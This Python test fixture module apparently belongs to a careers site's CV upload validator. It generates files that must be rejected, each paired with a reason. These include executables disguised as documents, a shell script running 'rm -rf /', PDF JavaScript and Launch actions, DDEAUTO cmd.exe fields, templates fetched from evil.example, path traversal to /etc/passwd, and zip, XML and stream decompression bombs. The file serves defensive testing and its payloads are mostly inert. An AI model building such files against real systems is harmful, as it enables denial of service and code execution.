"""Files that must not be taken, each with the sentence that belongs to it."""

import io
import zipfile
import zlib
from collections.abc import Iterator

from tests.careers.applications.office import (
    ODT,
    WORD,
    big_picture_png,
    docx,
    odt,
    ole,
    relations,
    zipped,
)
from tests.careers.applications.pdfs import embedded, plain_pdf, rewritten, scan

PROGRAM = b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 200
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def stream(extra: bytes, data: bytes) -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def bomb(size: int) -> bytes:
    """Zeros that unpack to `size` bytes."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(b"\0" * 1_048_576) for _ in range(size // 1_048_576)]
    return b"".join(parts) + packer.flush()


def overlapping() -> bytes:
    """Many entries that all point to the same compressed bytes."""
    content = docx(parts={f"word/part{n}.bin": b"\0" * 400_000 for n in range(3)})
    archive = zipfile.ZipFile(io.BytesIO(content))
    first, second = (archive.getinfo(f"word/part{n}.bin").header_offset for n in (0, 1))
    where = content.rindex(second.to_bytes(4, "little"))
    return content[:where] + first.to_bytes(4, "little") + content[where + 4 :]


def encrypted_zip() -> bytes:
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := content.find(mark, place + 1)) >= 0:
            content[place + offset] |= 1
    return bytes(content)


def objects(*bodies: bytes, **rest) -> bytes:
    return plain_pdf(objects=bodies, **rest)


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """(what it is, the problem told, content)."""
    yield "nothing", "empty", b""
    yield "only zeros", "empty", b"\0" * 4096
    yield "plain text", "wrong-type", b"Camille Dupont, CV"
    yield "plain ZIP", "wrong-type", zipped({"cv.txt": "CV"})
    yield (
        "spreadsheet",
        "wrong-type",
        docx(kind=WORD.replace("wordprocessingml.document", "spreadsheetml.sheet")),
    )
    yield "OpenDocument sheet", "wrong-type", odt(mimetype=ODT.replace("text", "spreadsheet"))
    yield "old Word", "old-word", ole("WordDocument")
    yield "rich text", "old-word", b"{\\rtf1\\ansi CV}"
    yield "photograph", "picture", big_picture_png()
    yield "page", "disguised", b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    yield "drawing", "disguised", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "page before a PDF", "disguised", b"<html><script>1</script></html>" + plain_pdf()
    yield "Windows program", "disguised", PROGRAM
    yield "Linux program", "disguised", b"\x7fELF" + b"\0" * 100
    yield "shell script", "disguised", b"#!/bin/sh\nrm -rf /\n"
    yield "PDF and archive at once", "disguised", plain_pdf() + zipped({"run.js": "1"}) + b"%%EOF"
    yield "program before a document", "disguised", PROGRAM + docx()
    yield "PDF cut in two", "truncated", scan()[:2500]
    yield (
        "document cut in two",
        "truncated",
        docx(parts={"word/media/a.png": big_picture_png()})[:4000],
    )
    yield "PDF without pages", "damaged", b"%PDF-1.4\n" + b"junk " * 200 + b"\n%%EOF"
    yield (
        "page in a PDF's clothes",
        "damaged",
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF",
    )
    yield "flipped bytes", "damaged", docx()[:60] + b"\xff" * 40 + docx()[100:]
    yield "broken XML", "damaged", docx(body="<w:p>")
    yield "names that lead out", "damaged", docx(parts={"../../etc/passwd": "x"})
    yield (
        "PDF with a password",
        "password",
        rewritten(
            plain_pdf(), lambda writer: writer.encrypt("secret", "owner", algorithm="AES-256")
        ),
    )
    yield "Word with a password", "password", ole("EncryptedPackage", "EncryptionInfo")
    yield "ZIP with a password", "password", encrypted_zip()
    yield (
        "OpenDocument with a password",
        "password",
        odt(
            manifest_more='<manifest:file-entry manifest:full-path="content.xml">'
            "<manifest:encryption-data/></manifest:file-entry>"
        ),
    )
    yield "Word with macros", "macros", docx(parts={"word/vbaProject.bin": ole("_VBA_PROJECT")})
    yield (
        "macros under another name",
        "macros",
        docx(
            more_types='<Override PartName="/word/x.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
            parts={"word/x.bin": b"x"},
        ),
    )
    yield (
        "docm called docx",
        "macros",
        docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield (
        "macros in a workbook inside",
        "macros",
        docx(parts={"word/embeddings/a.xlsx": zipped({"xl/vbaProject.bin": b"x"})}),
    )
    yield (
        "OpenDocument Basic",
        "macros",
        odt(
            parts={
                "Basic/Standard/Module1.xml": '<script:module xmlns:script="http://openoffice.org/2000/script">'
                "Sub Main\nEnd Sub</script:module>"
            }
        ),
    )
    yield "OpenDocument Python", "macros", odt(parts={"Scripts/python/a.py": "print(1)"})
    yield (
        "OpenDocument event",
        "macros",
        odt(body='<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
    )
    yield "script at opening", "active", objects(SCRIPT, catalog=b"/OpenAction 6 0 R")
    yield (
        "script in a name tree",
        "active",
        objects(SCRIPT, catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"),
    )
    yield "script under a written name", "active", objects(b"<< /S /J#61vaScript /J#53 (1) >>")
    yield "script that nothing leads to", "active", objects(SCRIPT)
    yield "script on a page", "active", plain_pdf(page=b"/AA << /O " + SCRIPT + b" >>")
    yield (
        "program started",
        "active",
        objects(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 6 0 R"),
    )
    yield "form sent by itself", "active", objects(b"<< /S /SubmitForm /F (http://x.example) >>")
    yield (
        "another machine asked",
        "active",
        objects(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >>"),
    )
    yield "film with a program", "active", objects(b"<< /Type /Annot /Subtype /RichMedia >>")
    yield "program brought along", "active", embedded("photo.png", PROGRAM)
    yield "program by its name", "active", embedded("cv.exe", b"hello")
    yield "archive brought along", "active", embedded("data.xml", zipped({"a.js": "1"}))
    yield (
        "form with a script",
        "active",
        objects(
            stream(b"", b"<xdp><template><script>1</script></template></xdp>"),
            catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>",
        ),
    )
    yield (
        "template on another machine",
        "active",
        docx(
            parts={
                "word/_rels/settings.xml.rels": relations(
                    "attachedTemplate", "https://evil.example/a.dotm"
                )
            }
        ),
    )
    yield (
        "object on another machine",
        "active",
        docx(
            parts={
                "word/_rels/document.xml.rels": relations("oleObject", "http://evil.example/a.doc")
            }
        ),
    )
    yield (
        "packaged file",
        "active",
        docx(parts={"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")}),
    )
    yield "control", "active", docx(parts={"word/activeX/activeX1.xml": "<a/>"})
    yield "program in a document", "active", docx(parts={"word/media/image1.png": PROGRAM})
    yield (
        "question to another program",
        "active",
        docx(
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
            "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"
        ),
    )
    yield (
        "entities",
        "active",
        zipped(
            {
                **{
                    n: zipfile.ZipFile(io.BytesIO(docx())).read(n)
                    for n in ("[Content_Types].xml", "_rels/.rels")
                },
                "word/document.xml": '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
            }
        ),
    )
    yield "archive bomb", "bomb", docx(parts={"word/media/a.bin": b"\0" * 300_000_000})
    yield "XML bomb", "bomb", docx(body="<w:p/>" * 6_000_000)
    yield "overlapping entries", "bomb", overlapping()
    yield "stream bomb", "bomb", objects(stream(b"/Filter /FlateDecode", bomb(100 << 20)))
    yield (
        "stream in a stream",
        "bomb",
        objects(stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(bomb(200 << 20), 9))),
    )
    yield (
        "picture of a million by a million",
        "bomb",
        objects(
            stream(
                b"/Subtype /Image /Width 1000000 /Height 1000000 /Filter /FlateDecode",
                zlib.compress(b"\0" * 99),
            )
        ),
    )
